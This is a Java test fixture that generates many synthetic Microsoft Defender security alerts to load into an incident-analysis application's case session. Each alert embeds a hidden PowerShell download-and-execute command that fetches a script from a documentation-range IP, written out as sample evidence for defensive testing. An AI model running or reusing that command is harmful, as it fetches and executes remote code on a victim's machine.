package dupin.ui;

import dupin.service.CaseSession;
import dupin.service.Console;
import dupin.service.Progress;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;

/// A case of as many small incidents as a test wants, each with something to decide.
final class ManyIncidents {
    private ManyIncidents() {}

    static CaseSession in(Path data, int incidents) throws IOException, InterruptedException {
        var console = new Console(data, OpenSample.CLOCK, 2);
        CaseSession session = console.open(data.resolve("Many.dupin"), Progress.NONE);
        Path export = data.resolve("alerts.ndjson");
        var lines = new ArrayList<String>();
        Instant start = Instant.parse("2026-11-18T06:00:00Z");
        for (int i = 0; i < incidents; i++) {
            Instant at = start.plusSeconds(i * 30L);
            lines.add(
                    """
                    {"@odata.type":"#microsoft.graph.security.alert","id":"many%d","incidentId":"%d","title":"Suspicious script %d","severity":"medium","status":"new","category":"Execution","serviceSource":"microsoftDefenderForEndpoint","createdDateTime":"%s","firstActivityDateTime":"%s","evidence":[{"@odata.type":"#microsoft.graph.security.deviceEvidence","deviceDnsName":"ws-%04d","mdeDeviceId":"%040x","verdict":"suspicious"},{"@odata.type":"#microsoft.graph.security.processEvidence","processId":%d,"processCreationDateTime":"%s","processCommandLine":"powershell.exe -nop -w hidden -c iex (new-object net.webclient).downloadstring('http://198.51.100.%d/a')","mdeDeviceId":"%040x","imageFile":{"fileName":"powershell.exe","filePath":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0","sha256":"%064x"}},{"@odata.type":"#microsoft.graph.security.fileEvidence","mdeDeviceId":"%040x","verdict":"malicious","fileDetails":{"fileName":"x%d.exe","filePath":"C:\\\\Users\\\\u\\\\AppData\\\\Local\\\\Temp","sha256":"%064x"}}]}\
                    """
                            .formatted(
                                    i, i, i, at, at, i, i + 1, 4000 + i, at, i % 250, i + 1, 77, i + 1, i, 1000 + i));
        }
        Files.write(export, lines);
        session.imports().commit(session.imports().plan(List.of(export), Progress.NONE), "analyst", Progress.NONE);
        session.awaitIdle();
        return session;
    }
}
